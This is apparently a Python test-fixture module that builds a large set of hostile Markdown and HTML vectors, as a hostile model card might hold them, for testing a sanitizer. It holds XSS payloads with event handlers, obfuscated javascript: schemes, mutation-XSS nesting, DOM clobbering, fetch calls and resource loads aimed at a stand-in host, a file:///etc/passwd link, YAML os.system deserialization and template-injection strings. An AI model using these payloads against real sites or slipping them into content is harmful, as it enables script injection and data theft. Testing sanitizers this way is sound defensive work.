"""Markdown and HTML that tries to run something, load something or leave, as a hostile model card would hold it.

Combined of events and elements, of spellings of an address and ways to write a link, and of pieces written one by one.
"""

import html
from collections.abc import Iterator
from itertools import product

AWAY = "http://elsewhere.example/x"
RUN = "window.__hit=1;alert(1);fetch('http://elsewhere.example/')"
EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "onbegin",
    "onpointerenter", "onwheel", "onscroll", "oncopy", "onbeforetoggle", "ontransitionend", "onpageshow",
    "onhashchange",
)  # fmt: skip
ELEMENTS = (
    "img src=x", "svg", "details open", "body", "video src=x", "a href=# autofocus tabindex=0", "table", "marquee",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", 'java\tscript:', 'java\nscript:', " javascript:", "javascript&colon;",
    "&#106;avascript:", "&#x6A;avascript&#58;", '\x01javascript:', "vbscript:", "data:text/html,",
    "data:text/html;base64,", 'javascript\u200b:', "jav&#x0A;ascript:", "JAVASCRIPT&#x3A;", "blob:",
    "file:///etc/passwd#", "view-source:javascript:", "%6aavascript:",
)  # fmt: skip
FORMS = (
    "[go]({url})", "![go]({url})", "<{url}>", '<a href="{url}">go</a>', '[go]({url} "title" onmouseover=alert(1))',
    '[r{number}]: {url}\n\n[r{number}]', '[ ![p]({url}) ]({url})', '<img src="{url}">', '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>go</button></form>',
)  # fmt: skip
LOADS = (
    '<script src="{away}"></script>', "<script>{run}</script>", "<SCRIPT/SRC={away}></SCRIPT>",
    '<link rel=stylesheet href="{away}">', '<link rel=prefetch href="{away}">',
    '<link rel=dns-prefetch href="//elsewhere.example">', '<meta http-equiv=refresh content="0;url={away}">',
    '<base href="{away}/">', '<iframe srcdoc="<script>{run}</script>"></iframe>', '<object data="{away}"></object>',
    '<embed src="{away}">', '<img srcset="{away} 1x">', '<picture><source srcset="{away}"><img src=x></picture>',
    '<video poster="{away}"></video>', '<audio src="{away}" autoplay></audio>', '<track src="{away}">',
    '<input type=image src="{away}">', '<body background="{away}">',
    '<table background="{away}"><tr><td>x</td></tr></table>', '<style>@import "{away}";</style>',
    '<div style="background:url({away})">x</div>', '<p style="position:fixed;inset:0;z-index:9999">over all</p>',
    '<a href="{away}" ping="{away}">x</a>', '<svg><image href="{away}"/></svg>', '<svg><use href="{away}#a"/></svg>',
    "<svg><script>{run}</script></svg>", '<svg><a xlink:href="javascript:{run}"><text>x</text></a></svg>',
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>', '<svg><set attributeName=href to="javascript:{run}">',
    '<math href="javascript:{run}">x</math>',
    '<math><maction actiontype="statusline#{away}" xlink:href="javascript:{run}">x</maction></math>',
    '<isindex action="javascript:{run}" type=image>', '<button formaction="javascript:{run}">x</button>',
    '<form id=f></form><button form=f formaction="javascript:{run}">x</button>', '<keygen autofocus onfocus="{run}">',
    '<frameset onload="{run}">', '<bgsound src="javascript:{run}">', '<layer src="{away}"></layer>',
    '<xml src="{away}">', '<applet code="{away}"></applet>',
    '<noscript><p title="</noscript><img src=x onerror={run}>">', "<title><img src=x onerror={run}></title>",
    "<textarea><img src=x onerror={run}></textarea>", "<xmp><img src=x onerror={run}></xmp>",
    "<template><script>{run}</script></template>", "<![CDATA[<img src=x onerror={run}>]]>",
    "<!--><img src=x onerror={run}>-->", "<!-- --!><img src=x onerror={run}> -->",
    '<?xml version="1.0"?><img src=x onerror={run}>', '<!DOCTYPE x [<!ENTITY y "z">]>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    "<svg><style><img src=x onerror={run}></style></svg>",
    '<svg><foreignObject><iframe src="javascript:{run}"></iframe></foreignObject></svg>',
    '<img src="x` `<script>{run}</script>"` `>', '<img src=x:x onerror\x00="{run}">',
    '<img """><script>{run}</script>">', "<<script>{run}//<</script>", '<a href="\\x0Bjavascript:{run}">x</a>',
    "<a id=forms name=documentElement href=#>clobber</a>", "<img name=cookie><img id=getElementById>",
    "<form id=htmx><input name=ajax></form>", '<div hx-get="{away}" hx-trigger="load">x</div>',
    '<div data-hx-get="{away}" data-hx-trigger="load">x</div>', '<div hx-on:load="{run}">x</div>',
    "<main id=main><h1>Approved</h1></main>", "<dialog open>Sign in again</dialog>",
    "<details open ontoggle={run}><summary>x</summary></details>", '<p>\u202egnp.exe\u202c</p>',
    'x\u2066\u2067\u202d[go](javascript:{run})',
)  # fmt: skip
BREAKS = (
    '```\n</code></pre><script>{run}</script>\n```', '```html onload={run}\n<img src=x onerror={run}>\n```',
    '~~~"><img src=x onerror={run}>\nx\n~~~', "`</code><img src=x onerror={run}>`",
    '| a |\n|---|\n| <img src=x onerror={run}> |',
    '[x][<img src=x onerror={run}>]\n\n[<img src=x onerror={run}>]: {away}', "# <img src=x onerror={run}>",
    "> <script>{run}</script>", "- [ ] <input onfocus={run} autofocus>", "1. <svg onload={run}>",
    '* * *\n<script>{run}</script>', '![a](x ""><img src=x onerror={run}>")', "[a](<javascript:{run}>)",
    '[a](http://a.example"onmouseover="{run})', '<http://a.example/"onclick={run}>',
    '<a@b.example"onclick={run}>', "&lt;script&gt;{run}&lt;/script&gt;", '\\<script>{run}\\</script>',
    '<div>\n\n<script>{run}</script>\n\n</div>', "<pre><script>{run}</script></pre>",
    "<table><script>{run}</script></table>", '[^1]\n\n[^1]: <img src=x onerror={run}>',
    "$$<img src=x onerror={run}>$$", "{{% include 'settings.py' %}} {{{{ request.user.password }}}}",
    '---\ntitle: <script>{run}</script>\n---\n', "<details><summary><img src=x onerror={run}></summary></details>",
)  # fmt: skip

STRANGE = (
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "<img src=x on\x00error={run}>",
    "<\x00img src=x onerror={run}>",
    "\ufeff<script>{run}</script>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<\u017fcript>{run}</\u017fcript>",
    "<\u017fvg onload={run}>",
    "<lin\u212a rel=stylesheet href={away}>",
    "[go](javascript\uff1aalert(1))",
    "[go](java\u00adscript:{run})",
    "[go](\u2028javascript:{run})",
    "[go](\u00a0javascript:{run})",
    "[go](\u202ejavascript:{run})",
    "[http://a.example\u202e](javascript:{run})",
    "[go](\\javascript:{run})",
    "[go](java\\script:{run})",
    "<img/src=x\x0conerror={run}>",
    "<img\x0bsrc=x\x0bonerror={run}>",
    "<svg\x0conload={run}>",
    "<img src=x onerror\u3000={run}>",
    "\u2028<script>{run}</script>\u2029",
    "[\u200b](javascript:{run})",
    "[go](javascript&#0;:{run})",
    "[go](javascript&#x110000;:{run})",
    "&#60;img src=x onerror={run}&#62;",
    "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;",
    "&#8238;<svg onload={run}>",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\x1b$B<script>{run}</script>",
    "\x85<script>{run}</script>",
)
NESTED = (
    '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img src=x onerror={run}>">',
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={run}></style></annotation-xml></math>",
    "<svg><title><style><a title='</style></title><img src=x onerror={run}>'>",
    "<svg><desc><noscript><a title='</noscript><img src=x onerror={run}>'>",
    "<noembed><a title='</noembed><img src=x onerror={run}>'></noembed>",
    "<noframes><a title='</noframes><img src=x onerror={run}>'></noframes>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={run}>'>",
    "<table><caption><svg><style></table><img src=x onerror={run}></style>",
    "<plaintext><img src=x onerror={run}>",
    "</div></main></body><script>{run}</script>",
    "</p></div></section><img src=x onerror={run}>",
    "</code></pre></li></ol><svg onload={run}>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<x-a is=img src=x onerror={run}>",
    "<portal src={away}></portal>",
    "<fencedframe src={away}></fencedframe>",
    "<image src={away} onerror={run}>",
    "<svg><feImage href={away}/></svg>",
    "<svg><style>@import url({away})</style></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload={run}/>#x\"/></svg>",
    "<svg><animate attributeName=href values=javascript:{run}><a><text>x</text></a></svg>",
    "<link rel=modulepreload href={away}>",
    "<link rel=preconnect href={away}>",
    "<link rel=icon href={away}>",
    "<link rel=manifest href={away}>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<meta name=referrer content=unsafe-url>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<script type=speculationrules>{{}}</script>",
    "<script type=importmap>{{}}</script>",
    "<script nonce=x>{run}</script>",
    "<style>a{{background:url({away})}}</style>",
    "<style>:root{{--x:url({away})}}</style>",
    "<p style=\"background:image-set('{away}' 1x)\">x</p>",
    '<p style="list-style:url({away})">x</p>',
    "<p style=animation-name:x onanimationstart={run}>x</p>",
    "<input name=title><form name=title>",
    "<img name=title id=location>",
    "<a id=document name=cookie href={away}>x</a>",
    "<form id=body><input name=attributes><input name=parentNode>",
    "<iframe name=__hit src=about:blank></iframe>",
    "<img id=__hit name=__said>",
    "<object name=currentScript data={away}></object>",
    "<title>Approved</title>",
    '<p slot=x class="notice btn" is=x accesskey=a contenteditable autofocus onfocus={run} tabindex=1>x</p>',
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle={run}>x</p>",
    "<a href={away} download target=_top rel=opener attributionsrc={away}>x</a>",
    "<area href=javascript:{run} shape=default>",
)
VALUES = (
    "<script>{run}</script>",
    '"><img src=x onerror={run}>',
    "</title><script>{run}</script>",
    "javascript:{run}",
    "[go](javascript:{run})",
    "![go]({away})",
    "!!python/object/apply:os.system ['x']",
    "&a [*a]",
    "--><svg onload={run}>",
    "</textarea><svg onload={run}>",
    "]]><svg onload={run}>",
    "{{{{ 7|add:7 }}}}{{% debug %}}",
)
KEYS = ("license", "language", "base_model", "license_link", "title")


def vectors() -> Iterator[tuple[str, str]]:
    """Every vector once, as (name, markdown)."""
    for element, event in product(ELEMENTS, EVENTS):
        yield f"{element.split()[0]} {event}", f'<{element} {event}="{html.escape(RUN)}">'
    for number, (scheme, form) in enumerate(product(SCHEMES, FORMS)):
        yield f"address {number}", form.format(url=scheme + RUN, number=number)
    kinds = {"load": LOADS, "break": BREAKS, "strange": STRANGE, "nested": NESTED}
    for kind, texts in kinds.items():
        for number, text in enumerate(texts):
            yield f"{kind} {number}", text.format(run=RUN, away=AWAY)
    for number, (key, value) in enumerate(product(KEYS, VALUES)):
        yield f"front {number}", front_matter({key: value.format(run=RUN, away=AWAY)})


def front_matter(values: dict[str, str]) -> str:
    """The head of a card with these values, and a line of text that stays when the head is taken away."""
    lines = (f"{key}: {value}" for key, value in values.items())
    return "\n".join(("---", *lines, "---", "", "Text.", ""))
